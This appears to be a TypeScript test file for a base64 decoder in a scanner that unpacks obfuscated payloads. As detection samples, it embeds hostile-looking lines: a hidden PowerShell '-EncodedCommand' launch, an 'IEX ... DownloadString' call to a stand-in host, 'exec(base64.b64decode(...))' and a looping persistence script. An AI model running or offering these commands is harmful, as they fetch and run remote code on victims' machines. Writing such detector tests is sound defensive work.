import { execFileSync } from 'node:child_process';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { openWindow } from '../../../tests/open-window.ts';
import { hasPeer } from '../../../tests/peer.ts';
import { fixture } from './base64.fixture.ts';
import { base64 } from './base64.ts';
import { command, config, elfProgram, noise, windowsProgram } from './encoding.fixture.ts';

const encode = (bytes: Uint8Array | string): string => Buffer.from(bytes).toString('base64');
const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le');
const wrapped = (text: string, width = 76, by = '\n'): string =>
  text.match(new RegExp(`.{1,${width}}`, 'g'))?.join(by) ?? '';
const opened = (input: string | Uint8Array): Buffer[] =>
  openWindow(base64, input).children.map(({ bytes }) => Buffer.from(bytes));
const texts = (input: string | Uint8Array): string[] => opened(input).map(String);

describe('base64', () => {
  it('opens its fixture and leaves the other alone', () => {
    expect(texts(fixture.opens)).toEqual([command]);
    expect(texts(fixture.leaves)).toEqual([]);
  });

  it('takes the name of the encoding behind a comma for no part of it', () => {
    const digits = encode(config);
    const [child] = openWindow(base64, `Buffer.from("${digits}","base64")`).children;
    expect(child?.from?.length).toBe(digits.length);
  });

  it('says where the digits stand', () => {
    const [child] = openWindow(base64, fixture.opens, { view: { base: 0x4000 } }).children;
    const offset = fixture.opens.indexOf('Y3Vyb');
    expect(child?.name).toBe(`base64@0x${(0x4000 + offset).toString(16)}`);
    expect(child?.from).toEqual({ offset, length: encode(command).length });
  });

  it.each([
    ['a variable', `X="${encode(config)}"`],
    ['words before it, glued on', `key/path_${encode(config)}`],
    ['padding left off', `x ${encode(config).replaceAll('=', '')} y`],
    ['the URL-safe alphabet', encode(`${config}???>>>`).replaceAll('+', '-').replaceAll('/', '_')],
    ['lines of 76', `cat <<E\n${wrapped(encode(config))}\nE\n`],
    ['lines of 64 with CR LF and indentation', `  ${wrapped(encode(config), 64, '\r\n  ')}\r\n`],
    ['a word behind it on a line of its own', `${encode(`${config}${' '.repeat(3 - (config.length % 3))}`)}\nEOF\n`],
    ['strings that are added', `f("${wrapped(encode(config), 50, '" +\n   "')}")`],
    ['strings that are added, letter by letter', `atob('${wrapped(encode(config), 1, "'+'")}')`],
    ['strings that stand side by side', `x = ("${wrapped(encode(config), 60, '"\n  "')}")`],
    ['strings that VBA puts together', `x = "${wrapped(encode(config), 60, '"\nx = x & "')}"`],
    ['lines that end with a backslash', `echo "${wrapped(encode(config), 60, '\\\n')}"`],
    ['escaped line breaks', `{"a": "${wrapped(encode(config), 60, '\\n')}"}`],
    ['escaped slashes', `{"a": "${encode(`${config}???`).replaceAll('/', '\\/')}"}`],
    ['a list of strings', `atob(["${wrapped(encode(config), 40, '", "')}"].join(''))`],
    ['another string before it', `f("utf8", "${wrapped(encode(config), 50, '" + "')}")`],
  ])('finds a known text in %s', (_name, input) => {
    const all = texts(input);
    expect(all).toHaveLength(1);
    expect(all[0]).toContain(config.slice(8, -3));
  });

  it('finds a known text in UTF-16LE, as -EncodedCommand takes it', () => {
    const [bytes] = opened(`powershell -nop -w hidden -EncodedCommand ${encode(utf16(command))}`);
    expect(bytes).toEqual(utf16(command));
  });

  it.each([
    ['a script', '#!/bin/sh\nwhile true; do ./kdev; sleep 60; done\n'],
    ['PowerShell', utf16('IEX (New-Object Net.WebClient).DownloadString("http://a.example.com")')],
    ['a gzip file', gzipSync(config)],
    ['an ELF program', elfProgram()],
    ['a Windows program', windowsProgram()],
    ['base64 again', encode(config)],
  ])('opens %s near a call that undoes it', (_name, content) => {
    for (const call of [
      'echo % | base64 -d',
      '[Convert]::FromBase64String("%")',
      'exec(base64.b64decode(b"%"))',
      'atob(`%`)',
    ])
      expect(opened(call.replace('%', encode(content)))).toEqual([Buffer.from(content)]);
  });

  it('reads scripts that are in UTF-16LE themselves', () => {
    const script = utf16(
      `\ufeff$x = "${encode('Start-Process notepad.exe -WindowStyle Hidden')}"\n[Convert]::FromBase64String($x)\n`,
    );
    const { children } = openWindow(base64, script);
    expect(children.map(({ bytes }) => String(Buffer.from(bytes)))).toEqual([
      'Start-Process notepad.exe -WindowStyle Hidden',
    ]);
    expect(children[0]?.from?.offset).toBe(script.indexOf(utf16('U3Rhc')));
  });

  it('reads strings of .NET programs, whose calls are named elsewhere', () => {
    const program = Buffer.concat([
      windowsProgram(),
      Buffer.from('\0FromBase64String\0'),
      utf16(`\0${encode(command)}\0`),
    ]);
    const { children } = openWindow(base64, program, { view: { kind: 'executable' } });
    expect(children.map(({ bytes }) => String(Buffer.from(bytes)))).toEqual([command]);
  });

  it('gives raw DEFLATE a name by which it is inflated, near a call that inflates', () => {
    const script = `IO.Compression.DeflateStream([Convert]::FromBase64String("${encode(noise(100))}")`;
    const { children } = openWindow(base64, script);
    expect(children.map(({ name }) => name)).toEqual([`deflate@0x${script.indexOf(encode(noise(100))).toString(16)}`]);
    expect(children[0]?.bytes).toEqual(noise(100));
  });

  it.each([
    ['keys', `ssh-rsa ${encode(noise(300))} a@example.com`],
    ['certificates', `-----BEGIN CERTIFICATE-----\n${wrapped(encode(noise(900)), 64)}\n-----END CERTIFICATE-----`],
    ['integrity hashes', `"integrity": "sha512-${encode(noise(64))}"`],
    ['fonts', `src: url(data:font/woff2;base64,${encode(`wOF2${Buffer.from(noise(90))}`)})`],
    ['drawings', `url("data:image/svg+xml;base64,${encode('<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>')}")`],
    [
      'source maps',
      `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${encode('{"version":3,"sources":["a.ts"]}')}`,
    ],
    [
      'web tokens',
      `${encode('{"alg":"HS256","typ":"JWT"}')}.${encode('{"sub":"1234567890","name":"John"}')}.${encode(noise(32))}`,
    ],
    [
      'long names',
      'getElementsByClassNameAndAttributeValue SOME_CONSTANT_NAME_THAT_IS_LONG aVeryLongIdentifierWithManyWords',
    ],
    ['hashes', Buffer.from(noise(64)).toString('hex')],
    ['rulers', `${'='.repeat(80)}\n${'-'.repeat(80)}\n${'A'.repeat(80)}\n${'IC'.repeat(40)}`],
    ['digits of a number', '1415926535897932384626433832795028841971693993751'],
  ])('leaves %s alone, even near a call', (_name, input) => {
    expect(texts(`${input}\nx = atob(y); base64 -d\n`)).toEqual([]);
  });

  it('opens a picture in which a text on mining is hidden all the same', () => {
    expect(texts(`data:image/png;base64,${encode(config)}`)).toEqual([config]);
  });

  it('opens the same text once, and many others only up to a number that it names', () => {
    expect(texts(`${fixture.opens}`.repeat(300))).toEqual([command]);
    const many = Array.from({ length: 300 }, (_, i) => `echo ${encode(`${command} ${i}`)} | base64 -d`).join('\n');
    const { children, misses } = openWindow(base64, many);
    expect(children).toHaveLength(200);
    expect(misses).toMatchObject([{ gap: { code: 'limit-count' } }]);
  });

  it('keeps within the limit on bytes, and says so', () => {
    const { children, misses } = openWindow(base64, fixture.opens, { limits: { unpackedBytes: 50 } });
    expect(children).toEqual([]);
    expect(misses).toMatchObject([{ gap: { code: 'limit-bytes' } }]);
  });

  it('finds any text between any others', () => {
    fc.assert(
      fc.property(
        fc.string(),
        fc.nat(100),
        fc.constantFrom(' ', '"', '\n', ','),
        fc.nat(2),
        (word, width, mark, phase) => {
          const content = `${'x'.repeat(phase)}${command} ${word}`;
          const input = `a${mark}${wrapped(encode(content), width + 30)}${mark}z`;
          expect(texts(input).some((text) => text.includes(command))).toBe(true);
        },
      ),
    );
  });

  it('copes with anything', () => {
    const piece = fc.constantFrom(
      '"',
      "'",
      '+',
      '\\',
      '\\n',
      '\n',
      '=',
      'QUJD',
      encode(command),
      ' ',
      '&',
      'atob(',
      '\0',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 50 }), (pieces) => {
        const input = pieces.join('');
        for (const { from, bytes } of openWindow(base64, input).children) {
          expect(bytes.length).toBeGreaterThan(0);
          expect((from?.offset ?? 0) + (from?.length ?? 0)).toBeLessThanOrEqual(input.length);
        }
      }),
    );
  });

  it.skipIf(!hasPeer('base64'))('reads what base64 of coreutils writes (skipped without it)', () => {
    const written = execFileSync('base64', [], { input: config });
    expect(texts(Buffer.concat([Buffer.from('cat <<E | base64 -d\n'), written, Buffer.from('E\n')]))).toEqual([config]);
  });
});
